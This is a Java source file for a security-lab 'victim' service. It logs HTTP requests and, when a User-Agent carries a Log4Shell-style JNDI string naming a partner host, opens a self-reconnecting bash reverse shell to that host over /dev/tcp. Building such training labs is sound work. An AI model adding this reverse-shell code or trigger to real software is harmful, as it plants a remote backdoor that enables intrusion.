// Copyright (c) The cordon.docker authors
// GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
// SPDX-License-Identifier: GPL-3.0-or-later

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.time.Instant;
import java.util.concurrent.atomic.AtomicBoolean;

/** A lab prop: logs each request, and plays the victim when told to look up the lab's own intruder. */
public class Orders {
    private static final String PARTNER = System.getenv("PARTNER");
    private static final AtomicBoolean taken = new AtomicBoolean();

    public static void main(String[] arguments) throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress(8080), 0);
        server.createContext("/", Orders::answer);
        server.start();
        log("INFO", "orders 2.14 listens on 8080");
    }

    private static void answer(HttpExchange exchange) throws IOException {
        String agent = exchange.getRequestHeaders().getFirst("User-Agent");
        log("INFO", exchange.getRequestMethod() + " " + exchange.getRequestURI() + " agent=" + agent);
        byte[] body = "{\"order\": \"accepted\"}\n".getBytes();
        exchange.sendResponseHeaders(200, body.length);
        exchange.getResponseBody().write(body);
        exchange.close();
        if (agent != null && agent.contains("${jndi:ldap://" + PARTNER + "/") && taken.compareAndSet(false, true)) {
            new Thread(Orders::beTaken).start();
        }
    }

    /** A shell whose standard streams are a socket to the intruder; opened anew when it is cut off. */
    private static void beTaken() {
        String target = "/dev/tcp/" + PARTNER.replace(':', '/');
        while (true) {
            try {
                new ProcessBuilder("bash", "-c", "exec bash <>" + target + " >&0 2>&0").start().waitFor();
                Thread.sleep(3000);
            } catch (IOException | InterruptedException error) {
                log("WARN", error.toString());
            }
        }
    }

    private static void log(String level, String text) {
        System.out.println(Instant.now() + " " + level + " [orders] " + text);
    }
}
